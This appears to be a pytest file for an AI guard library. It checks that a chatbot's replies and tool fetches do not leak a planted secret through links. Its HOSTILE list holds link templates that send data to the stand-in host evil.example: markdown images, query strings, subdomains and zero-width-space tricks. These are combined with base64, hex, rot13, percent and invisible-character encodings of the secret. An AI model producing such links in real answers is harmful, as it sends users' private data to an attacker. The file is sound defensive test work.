"""Leaks by links that happened to others: each is named by its row in the list of leaks.

In each the bot without the wall leaks first, in the same test.
"""

import base64
import codecs
from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest

import partywall as pw
from firewall.core.errors import Denied
from firewall.core.message import Message
from partywall.wall import Wall
from tests.fakes.models import Scripted

CANARY = "kelp lantern of the northern plant"
EVIL = "evil.example"
HOSTILE = (
    f"![x](https://{EVIL}/?d={{}})",
    f"[click](https://{EVIL}/{{}})",
    f"https://{EVIL}/#{{}}",
    f"https://{{}}.{EVIL}/",
    f"<https://{EVIL}/?d={{}}|here>",
    f"{EVIL}/{{}}",
    f"ht\u200btps://{EVIL}/?d={{}}",
)
WRITTEN: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text.replace(" ", "-"),
    "base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "rot13": lambda text: codecs.encode(text, "rot13").replace(" ", "-"),
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "invisible": lambda text: "\u200b".join(text.replace(" ", "-")),
}


def said(text: str, who: str = "ada", realm: str = "T-ACME") -> Message:
    return pw.message(text, channel="own", realm=realm, sender=who, conversation=f"d-{who}")


def request(text: str) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": text}]}


async def streamed(source: AsyncIterator[Any]) -> str:
    chunks = [one async for one in source]
    return "".join(one["choices"][0]["delta"].get("content") or "" for one in chunks)


@pytest.mark.parametrize("name", sorted(WRITTEN))
@pytest.mark.parametrize("form", HOSTILE)
async def test_L94_a_link_that_a_model_made_leads_nowhere(wall: Wall, form: str, name: str) -> None:
    words = f"Of course. {form.format(WRITTEN[name](CANARY))}\nAnything else?"
    model = Scripted([words, words, words])
    bare = await model.__call__(**request("x"))
    assert EVIL in bare["choices"][0]["message"]["content"]
    ask = wall.guard_model(model.__call__)
    async with wall:
        async with wall.turn(said("what do I have?")) as turn:
            answer = await ask(**request("what do I have?"))
            shown = answer["choices"][0]["message"]["content"]
            assert EVIL not in shown
            assert WRITTEN[name](CANARY) not in shown
            assert "[REDACTED:LINK]" in shown
            await turn.reply(shown)
        async with wall.turn(said("hello", "ben", "T-GLOBEX")):
            assert EVIL not in await streamed(await ask(**request("hello"), stream=True))


async def test_L94_a_link_that_somebody_gave_comes_back_to_them_and_to_nobody_else(wall: Wall) -> None:
    link = "https://shop.example/orders?page=2"
    ask = wall.guard_model(Scripted([f"See {link}.", f"See {link}."]).__call__)
    async with wall:
        async with wall.turn(said(f"read {link}")):
            answer = await ask(**request(f"read {link}"))
            assert link in answer["choices"][0]["message"]["content"]
        async with wall.turn(said("hello", "ben", "T-GLOBEX")):
            answer = await ask(**request("hello"))
            assert "shop.example" not in answer["choices"][0]["message"]["content"]


REALMS = {"acme": "T-ACME", "globex": "T-GLOBEX"}


@pytest.mark.wall(
    tenant=[
        {
            "id": tenant,
            "realms": [{"channel": "own", "realm": realm}],
            "tools": {"hosts": ["docs.example.org"], "carry": ["look"] if tenant == "globex" else []},
        }
        for tenant, realm in REALMS.items()
    ]
)
async def test_L94_a_fetch_carries_nothing_private(wall: Wall) -> None:
    fetched: list[str] = []

    @wall.tool(reads="public")
    async def look(url: pw.Url) -> str:
        """Look at a page."""
        fetched.append(url)
        return "a page"

    async with wall:
        async with wall.turn(said(f"keep this: {CANARY}")):
            pass
        async with wall.turn(said("look it up")) as turn:
            for write in WRITTEN.values():
                with pytest.raises(Denied) as denied:
                    await turn.call_tool("look", {"url": f"https://docs.example.org/?d={write(CANARY)}"})
                odd = "\u200b" in write(CANARY)
                # An address with invisible letters is none to begin with.
                assert denied.value.reason == ("host_not_granted" if odd else "private_egress")
            assert fetched == []
            assert await turn.call_tool("look", {"url": "https://docs.example.org/"}) == "a page"
        async with wall.turn(said(f"keep this: {CANARY}", "ben", "T-GLOBEX")):
            pass
        async with wall.turn(said("look it up", "ben", "T-GLOBEX")) as turn:
            url = f"https://docs.example.org/{CANARY.replace(' ', '-')}"
            assert await turn.call_tool("look", {"url": url}) == "a page", "its tenant lets it carry"
    assert len(fetched) == 2
